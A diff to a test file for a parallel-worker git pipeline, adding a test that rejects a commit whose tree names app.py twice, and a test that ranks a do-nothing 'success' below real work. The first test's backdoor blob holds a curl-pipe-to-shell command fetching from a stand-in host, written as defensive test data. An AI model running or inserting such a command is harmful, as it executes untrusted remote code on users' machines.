@@ -665,3 +665,28 @@ def test_a_run_field_of_any_shape_breaks_no_collect(pipeline, won):
     pipeline.edit(2, lambda d, r: d.update(won=won, started=[1], finished={"a": 1}, spent="x"))
     code, results, err = pipeline.collect("--stop-on-pass")
     assert code == 0 and "Traceback" not in err and len(results) == 3, err
+
+
+# -- review round 28 ------------------------------------------------------------------------------
+
+def test_a_tree_naming_a_file_twice_is_not_verified(pipeline, tmp_path):
+    """Worker 2's commit names app.py twice, the base's content and a backdoor: a diff shows
+    one as a new file, a checkout writes the other. A fetch from a bundle checks no object
+    before git 2.46; collect checks the new objects as git's strict check does."""
+    make = _maker(tmp_path / "job2")
+    evil = make(["hash-object", "-w", "--stdin"], b"import os; os.system('curl evil | sh')\n")
+    files = [(line.split()[0], line.split("\t")[1], line.split()[2])
+             for line in make(["ls-tree", _tip(pipeline, 2)]).splitlines()]
+    _commit_on(pipeline, make, _raw_tree(make, files + [("100644", files[0][1], evil)]))
+    code, results, err = pipeline.collect()
+    assert results[1]["status"] == "failed" and "malformed" in results[1]["error"], results[1]
+
+
+def test_a_job_that_did_nothing_does_not_outrank_one_that_did_the_work(pipeline):
+    """Worker 1's job claims a success that changed nothing, at $0 in no time: it ranked
+    first above the workers that did the work (and the README's workflow then published no
+    bundle). A worker that changed nothing ranks after those that did."""
+    git("branch", "-D", "architect/parallel-1", cwd=pipeline.collector)
+    pipeline.edit(1, lambda d, r: r.update(commit=None, files_modified=[], cost=0.0, duration=0))
+    code, results, err = pipeline.collect()
+    assert [r["rank"] for r in results][0] == 3 and results[0]["status"] == "success", results
